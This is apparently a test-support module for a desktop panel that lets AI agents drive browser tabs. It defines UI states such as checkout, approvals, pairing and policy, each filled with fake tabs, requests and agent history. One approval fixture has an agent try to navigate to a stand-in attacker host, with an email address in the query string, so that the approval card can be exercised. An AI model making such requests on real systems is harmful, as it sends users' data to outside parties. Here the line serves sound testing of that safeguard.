"""The states a person meets the window in, each as a function that leads there."""

from __future__ import annotations

import contextlib
import time
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

from PySide6.QtCore import Qt
from PySide6.QtGui import QColor, QImage, QPainter
from PySide6.QtTest import QTest
from PySide6.QtWidgets import QWidget

from kapture_panel.core.basics import tasks
from kapture_panel.core.basics.errors import KaptureError
from kapture_panel.core.doctor import CHAIN, Check
from kapture_panel.core.gates.rules import Rule
from kapture_panel.core.stores.history_row import Row
from kapture_panel.installing.plans import Plan
from kapture_panel.window.shell.main_window import MainWindow
from tests.support.window.fakes import Instance, encode, failed, ok, picture, png
from tests.support.window.forms.picked import PICKED
from tests.support.window.history import choose, put
from tests.support.window.qt_loop import settle, until

RULES = (
    Rule("allow", "claude-code", "/usr/bin/claude", "shop.example", "execute"),
    Rule("careful", "claude-code", "/usr/bin/claude"),
    Rule("read-only", site="bank.example"),
)
State = Callable[[MainWindow, Instance], Awaitable[QWidget]]


def fill(instance: Instance, text: str = "Checkout – a shop with a name of some length") -> None:
    """Something in every store, with `text` wherever a page or an agent says something."""
    instance.add_tab("t1", text, "https://shop.example/checkout/step/2?basket=12")
    instance.add_tab("t2", text)
    instance.add_agent(text)
    levels = ("log", "info", "warn", "error", "debug")
    instance.console.append(
        "t1",
        [{"at": at, "level": level, "text": text, "source": f"{text}.js:7"} for at, level in enumerate(levels)],
    )
    request = {"method": "GET", "type": "fetch", "url": f"https://shop.example/{text}"}
    answers: list[dict[str, Any]] = [{"status": 200, "finished": True}, {"status": 404, "finished": True}, {}]
    instance.requests.take("t1", [request | {"id": f"r{at}", "at": at} | more for at, more in enumerate(answers)])
    instance.shots.add(png(), name=text, tab_id="t1", format="png", width=40, height=20)
    put(instance, "click", {"selector": text}, client=text, site=text, summary=text)
    put(instance, "fill", {"selector": "#a", "value": "b"}, state="error", code="STALE_REF", summary=text)


def fill_shop(instance: Instance) -> None:
    """An afternoon of two agents in a shop: what the pictures of the README show."""
    now = time.time()
    shop, agent = "127.0.0.1:8123", "claude-code"
    checkout = instance.add_tab("t1", "Checkout – Corner Shop", f"http://{shop}/checkout")
    instance.add_tab("t2", "Issues · kapture-panel", "https://github.example/kapture/issues")
    instance.add_tab("t3", "Inbox (3)", "https://mail.example/inbox")
    reports = instance.add_tab("t4", "Reports", "https://intranet.example/reports")
    for tab, driver, state, ms in ((checkout, agent, "connected", 12.0), (reports, "codex", "dialog", 4000.0)):
        instance.tabs.update(tab, driver=driver, state=state, last_ms=ms)
    for age_s, tab in zip((840, 1260, 180, 840), instance.tabs, strict=True):
        tab.connected_at = now - age_s
    for name, pid, calls, errors, bytes_ in ((agent, 4182, 31, 1, 24_800), ("codex", 4410, 4, 0, 3100)):
        client = instance.add_agent(name, pid)
        client.calls, client.errors, client.result_bytes = calls, errors, bytes_
        client.current_tab = "t1" if name == agent else "t4"
        instance.clients.changed.emit(client)
    lines = (
        ("error", "TypeError: promo is undefined", "promo.js:5"), ("info", "service worker activated", "sw.js:3"),
        ("log", "cart: 2 items", "cart.js:7"), ("warn", "Field “phone” has no autocomplete attribute", "form.js:31"),
        ("error", "GET /api/recommendations 500 (Internal Server Error)", "api.js:12"),
        ("log", 'order placed {"id":1042,"total":"38.50"}', "shop.js:88"),
    )  # fmt: skip
    instance.console.append(
        "t1",
        [
            {"at": (now - 6 + at) * 1000, "level": level, "text": text, "source": f"http://{shop}/{source}"}
            for at, (level, text, source) in enumerate(lines)
        ],
    )
    deeds: tuple[tuple[str, dict[str, Any], dict[str, Any]], ...] = (
        ("evaluate", {"code": "document.title"}, {"client": "codex", "summary": "Reports", "ms": 4.0}),
        ("navigate", {"url": f"http://{shop}/checkout"}, {"summary": "navigated to /checkout", "ms": 61.0}),
        ("fill", {"selector": "#full-name", "value": {"redacted": 12}}, {"summary": "page changed", "ms": 8.0}),
        ("click", {"selector": "#plc"}, {
            "kind": "person", "client": "person", "state": "error", "code": "ELEMENT_NOT_FOUND", "ms": 804.0,
            "summary": "nothing matches #plc; look at a snapshot",
        }),
        ("snapshot", {}, {"summary": "412 tokens, 38 refs", "ms": 6.0}),
        ("fill", {"selector": "#card", "value": {"redacted": 16}}, {"summary": "page changed", "ms": 9.0}),
        ("screenshot", {"name": "checkout"}, {"summary": "1280 × 713 png", "ms": 89.0}),
        ("click", {"selector": "#place-order"}, {"summary": "navigated to /thanks · 3 requests", "ms": 12.0}),
    )  # fmt: skip
    for at, (command, params, more) in enumerate(deeds):
        given = {"client": agent, "kind": "agent", "state": "ok", **more}
        row = Row(0, now - 9 + at, tab_id="t1", site=shop, url=f"http://{shop}/checkout", command=command,
                  params=params, **given)  # fmt: skip
        instance.history.begin(row, durable=True)
        instance.history.settle(row)
    for name, color in (("home", "#e8d9ee"), ("results", "#d5ead9"), ("checkout", "#f0ddc8"), ("thanks", "#d3dff2")):
        instance.shots.add(page_picture(name, color), name=name, tab_id="t1", format="png", width=1280, height=713)


def page_picture(title: str, color: str) -> bytes:
    """Something like a page: a bar, a headline, some blocks."""
    image = QImage(1280, 713, QImage.Format.Format_RGB32)
    image.fill(QColor("#ffffff"))
    painter = QPainter(image)
    painter.fillRect(0, 0, 1280, 90, QColor(color))
    font = painter.font()
    font.setPixelSize(56)
    painter.setFont(font)
    painter.setPen(QColor("#333333"))
    painter.drawText(48, 190, title.capitalize())
    for number in range(6):
        painter.fillRect(48 + number % 3 * 400, 250 + number // 3 * 220, 360, 180, QColor(color))
    painter.end()
    return encode(image)


async def first_page(window: MainWindow, _instance: Instance) -> QWidget:
    """Nothing was ever done."""
    window.show_welcome()
    return window


async def busy(window: MainWindow, instance: Instance) -> QWidget:
    """Something in every part."""
    fill(instance)
    await settle()
    window.tabs.choose("t1")
    return window


async def shop(window: MainWindow, instance: Instance) -> QWidget:
    """Two agents at work, a command just run by the person."""
    fill_shop(instance)
    window.tabs.choose("t1")
    window.command.list.choose("kapturemcp_click")
    window.command.params.fill({"selector": "#place-order"})
    effects = {"url": "http://127.0.0.1:8123/thanks?order=1042", "title": "Thank you – Corner Shop", "requests": 3}
    instance.executor.answers["click"] = ok({"clicked": True, "selector": "#place-order"}, effects)
    await settle()
    window.command.run()
    await until(lambda: window.command.task is None and window.command.result.pill.isVisible(), "the answer")
    assert window.command.result.tree.isVisible()
    agent = instance.clients.agents()[0]
    agent.running = 1
    instance.clients.changed.emit(agent)
    instance.tabs.update(instance.tabs.get("t1"), state="executing", driver=agent.name, last_ms=12.0)
    window.toasts.clear()
    await until(window.toolbar.driving.isVisible, "who is driving")
    return window


async def network(window: MainWindow, instance: Instance) -> QWidget:
    """A request with its details."""
    instance.executor.answers["get_request"] = ok("r0 GET https://shop.example/\nstatus: 200")
    fill(instance)
    window.logs.show_page("network")
    await until(lambda: window.network.table.model().rowCount() == 3, "requests")
    window.network.table.setFocus()
    window.network.table.selectRow(0)
    QTest.keyClick(window.network.table, Qt.Key.Key_Return)
    await until(lambda: "r0 GET" in window.network.detail.text.toPlainText(), "details")
    return window


async def result_of(window: MainWindow, instance: Instance, answer: Any) -> QWidget:
    """A command was run from the form."""
    fill(instance)
    instance.executor.answers["snapshot"] = answer
    window.command.list.choose("kapturemcp_snapshot")
    await settle()
    window.tabs.choose("t1")
    window.command.run()
    await until(lambda: window.command.task is None and window.command.result.pill.isVisible(), "the answer")
    return window


async def error_result(window: MainWindow, instance: Instance) -> QWidget:
    """A command failed."""
    root = await result_of(window, instance, failed("STALE_REF", "e5 is gone; take a snapshot and use its refs"))
    assert window.command.result.message.isVisible()
    return root


async def tree_result(window: MainWindow, instance: Instance) -> QWidget:
    """A command answered a tree."""
    root = await result_of(window, instance, ok({"url": "https://shop.example", "list": [1, {"a": None}]}))
    assert window.command.result.tree.isVisible()
    return root


async def table_result(window: MainWindow, instance: Instance) -> QWidget:
    """A command answered records."""
    root = await result_of(window, instance, ok([{"name": "sid", "value": 1}, {"name": "b", "value": 2}]))
    views = window.command.result.views.buttons
    next(button for button in views if button.text() == "Table").click()
    assert window.command.result.table.isVisible()
    assert window.command.result.table.model().rowCount() == 2
    return root


async def picture_result(window: MainWindow, instance: Instance) -> QWidget:
    """A screenshot was taken."""
    fill(instance)
    instance.executor.answers["screenshot"] = picture(png(400, 300), 400, 300)
    window.command.list.choose("kapturemcp_screenshot")
    window.command.params.fill({"name": "checkout"})
    await settle()
    window.tabs.choose("t1")
    window.command.run()
    await until(lambda: not window.command.result.picture.image.isNull(), "the picture")
    assert window.command.result.picture.isVisible()
    return window


async def json_form(window: MainWindow, instance: Instance) -> QWidget:
    """Parameters as JSON."""
    fill(instance)
    window.command.list.choose("kapturemcp_fill_form")
    window.command.toggle_json()
    assert window.command.params.json.isVisible()
    return window


async def invalid_form(window: MainWindow, instance: Instance) -> QWidget:
    """A form with what is wrong in it."""
    fill(instance)
    window.command.list.choose("kapturemcp_click")
    window.command.run()
    form = window.command.params.form
    assert form is not None
    assert [field.names for field in form.fields if field.error]
    return window


async def palette(window: MainWindow, instance: Instance) -> QWidget:
    """The command palette."""
    fill(instance)
    window.palette_view.open()
    return window.palette_view


async def shortcuts(window: MainWindow, _instance: Instance) -> QWidget:
    """The sheet of F1."""
    window.shortcuts.open()
    return window.shortcuts


async def notices(window: MainWindow, _instance: Instance) -> QWidget:
    """What was told."""
    window.toasts.tell("Saving failed", "The disk is full.", "error")
    window.toasts.tell("Console saved", "120 lines in console.txt", "ok")
    window.notices.open()
    return window.notices


async def toasts(window: MainWindow, _instance: Instance) -> QWidget:
    """Messages over the window."""
    window.toasts.tell("Saving failed", "The disk is full. " * 4, "error")
    window.toasts.tell("History exported", "12 rows", "ok", deed=("Open folder", lambda: None))
    await settle()
    return window


async def lightbox(window: MainWindow, instance: Instance) -> QWidget:
    """A screenshot in its own window."""
    fill(instance)
    (shot,) = list(instance.shots)
    box = window.lightboxes.open(shot)
    await until(lambda: not box.canvas.image.isNull(), "the picture")
    return box


async def doctor(window: MainWindow, instance: Instance) -> QWidget:
    """The doctor has found something."""
    instance.checks = [
        Check("panel", "ok", "listens on 127.0.0.1:61822", ms=1.0),
        Check("worker", "failed", "no extension answers", fix="Load the extension and pair it with the panel."),
    ]
    window.doctor.open()
    await until(lambda: window.status.doctor.text() == "Doctor: 1 problem", "the doctor")
    return window.doctor


async def approvals(window: MainWindow, instance: Instance) -> QWidget:
    """An agent asks for something."""
    agent = instance.add_agent("claude-code")

    async def asking() -> None:
        try:
            await instance.router.gates.approvals.ask(
                agent, instance.catalogue.get("connect_tab"), {"browserTabId": 7},
                site="shop.example", where="Cart – https://shop.example/?q=1", timeout_s=20,
            )  # fmt: skip
        except KaptureError:
            return  # the window went with the question

    tasks.spawn(asking(), "ask")
    await until(lambda: window.approvals.card is not None and window.approvals.card.allow.isEnabled(), "the card")
    return window


async def at_work(window: MainWindow, instance: Instance) -> QWidget:
    """The person wants to quit while an agent is at work."""
    fill(instance)
    agent = instance.add_agent("claude-code")
    agent.running, agent.current_tab = 1, "t1"
    instance.clients.changed.emit(agent)
    await until(window.activity.at_work, "the agent at work")
    window.ask_to_quit()
    assert window.at_work.isVisible()
    return window.at_work


async def forget(window: MainWindow, instance: Instance) -> QWidget:
    """What would be forgotten, before it is."""
    fill(instance)
    put(instance, "click", state="running")
    window.actions_table["forget_everything"].trigger()
    assert window.forget.isVisible()
    return window.forget


async def pairing(window: MainWindow, instance: Instance) -> QWidget:
    """A browser wants to be paired."""
    fill(instance)
    instance.pairing.show(instance.pairing.begin("one", "Chrome 156"), "123456")
    await until(lambda: window.pairing.card is not None and window.pairing.card.pair.isEnabled(), "the card")
    return window


async def pairing_expired(window: MainWindow, instance: Instance) -> QWidget:
    """Nobody compared the codes."""
    instance.pairing.expiry_s = 0.0
    instance.pairing.show(instance.pairing.begin("one", "Chrome 156"), "123456")
    await until(lambda: window.pairing.card is not None and window.pairing.card.close_button.isVisible(), "the end")
    return window


async def own_browser(window: MainWindow, _instance: Instance) -> QWidget:
    """The guide to the person's own browser."""
    window.show_own_browser()
    return window


async def change_offered(window: MainWindow, _instance: Instance) -> QWidget:
    """A change of a client's file, before it is made."""
    window.show_welcome()
    before = b'{\n  "mcpServers": {}\n}\n'
    after = b'{\n  "mcpServers": { "kapture": { "command": "kapture", "args": ["mcp"] } }\n}\n'
    setup = window.welcome.setup
    setup.choose("Cursor")
    setup.offer("Add to Cursor", Plan(setup.client, Path("home/.cursor/mcp.json"), before, after, adds=True))
    assert setup.card.apply.isVisible()
    return window


async def change_made(window: MainWindow, instance: Instance) -> QWidget:
    """What came of it."""
    await change_offered(window, instance)
    window.welcome.setup.tell("Cursor: done", "Start Cursor anew.\nChanged: home/.cursor/mcp.json")
    assert not window.welcome.setup.card.apply.isVisible()
    return window


async def unconnected(window: MainWindow, instance: Instance) -> QWidget:
    """Tabs of the person's browser that are not connected, listed at their wish."""
    fill_shop(instance)
    instance.paired.add("one", "ab" * 32, "Google Chrome 156")
    instance.paired.see("one", is_here=True)
    hosts = ("mail.example", "calendar.example", "a-news-site-with-a-long-name.example")
    listed = [{"browserTabId": at, "connected": False, "host": host} for at, host in enumerate(hosts)]
    instance.executor.answers["list_browser_tabs"] = ok({"tabs": listed})
    window.toasts.clear()
    await settle()
    window.tabs.unconnected.choose.click()
    await until(window.tabs.unconnected.list.isVisible, "the tabs that are not connected")
    return window


async def examined(window: MainWindow, instance: Instance) -> QWidget:
    """The status line says what the doctor found last."""
    fill_shop(instance)
    instance.checks = [Check(link, "ok", "holds", ms=1.0) for link in CHAIN]
    window.doctor.open()
    await until(lambda: window.status.doctor.text() == "Doctor: all 7 links fine", "the doctor")
    window.doctor.dismiss()
    return window


async def approval_with_scopes(window: MainWindow, instance: Instance) -> QWidget:
    """An agent asks for something that may be allowed for longer."""
    agent = instance.add_agent("claude-code")
    agent.parent, agent.program = "claude", "/usr/bin/claude"

    async def asking() -> None:
        with contextlib.suppress(KaptureError):  # the window went with the question
            await instance.router.gates.approvals.ask(
                agent, instance.catalogue.get("navigate"), {"url": "https://evil.example/?mail=a%40b.c"},
                site="evil.example", where="Cart – https://shop.example/?q=1", timeout_s=20,
                why="leaves shop.example for evil.example", matter="navigate", scopes=("once", "session", "always"),
                picture=png(200, 60),
            )  # fmt: skip

    tasks.spawn(asking(), "ask")
    await until(lambda: (card := window.approvals.card) is not None and card.allow.isEnabled(), "the card")
    await until(lambda: (card := window.approvals.card) is not None and card.picture.isVisible(), "the picture")
    return window


async def approval_expired(window: MainWindow, instance: Instance) -> QWidget:
    """Nobody answered an agent in time."""
    instance.router.gates.approvals.expiry_s = 0.0
    await approvals_asked(instance)
    await until(lambda: (card := window.approvals.card) is not None and not card.is_open, "the end")
    return window


async def approvals_asked(instance: Instance) -> None:
    """Ask, and wait for the answer whatever it is."""
    with contextlib.suppress(KaptureError):
        await instance.router.gates.approvals.ask(
            instance.add_agent("claude-code"), instance.catalogue.get("connect_tab"), {"browserTabId": 7},
            site="shop.example", where="Cart – https://shop.example/?q=1", timeout_s=20,
        )  # fmt: skip


async def policy(window: MainWindow, instance: Instance) -> QWidget:
    """What agents may do, with rules, one of them chosen."""
    for rule in RULES:
        instance.router.gates.policy.rules.put(rule)
    window.policy.open()
    window.policy.list.setCurrentIndex(window.policy.list.model().index(0, 0))
    assert window.policy.chosen is not None
    return window.policy


async def browsers(window: MainWindow, instance: Instance) -> QWidget:
    """Paired browsers, and the question before one of them is taken off."""
    instance.paired.add("one", "ab" * 32, "Google Chrome 156")
    instance.paired.add("two", "cd" * 32, "Microsoft Edge 156")
    instance.paired.see("two", is_here=True)
    window.toasts.clear()
    window.browsers.open()
    window.browsers.unpair.click()
    assert window.browsers.yes.isVisible()
    return window.browsers


async def history_question(window: MainWindow, instance: Instance) -> QWidget:
    """A row with its details, and the question before it is run again."""
    fill(instance)
    await choose(window)
    window.history.ask_to_run(next(row for row in instance.history.rows() if row.command == "click"))
    await until(window.history.question.isVisible, "the question")
    return window


async def template_dialog(window: MainWindow, instance: Instance) -> QWidget:
    """What a template is to be called."""
    fill(instance)
    window.command.list.choose("kapturemcp_fill")
    window.command.params.fill({"selector": "#a", "value": "secret"})
    dialog = window.command.save_template()
    assert dialog is not None
    return dialog


async def picks(window: MainWindow, instance: Instance) -> QWidget:
    """An element was picked in the page."""
    fill(instance)
    window.command.list.choose("kapturemcp_click")
    await settle()
    window.tabs.choose("t1")
    form = window.command.params.form
    assert form is not None
    assert form.target is not None
    form.target.pick_button.click()
    await until(lambda: hasattr(instance, "picked"), "the picking")
    instance.picked.set_result(PICKED)
    await until(form.target.picks.isVisible, "what the element can be called")
    return window


STATES: dict[str, State] = {
    state.__name__: state
    for state in (
        first_page, busy, shop, network, error_result, tree_result, table_result, picture_result, json_form,
        invalid_form, palette, shortcuts, notices, toasts, lightbox, doctor, approvals, pairing, pairing_expired,
        own_browser, browsers, approval_with_scopes, approval_expired, policy,
        change_offered, change_made, unconnected, examined, history_question,
        template_dialog, picks, at_work, forget,
    )
}  # fmt: skip
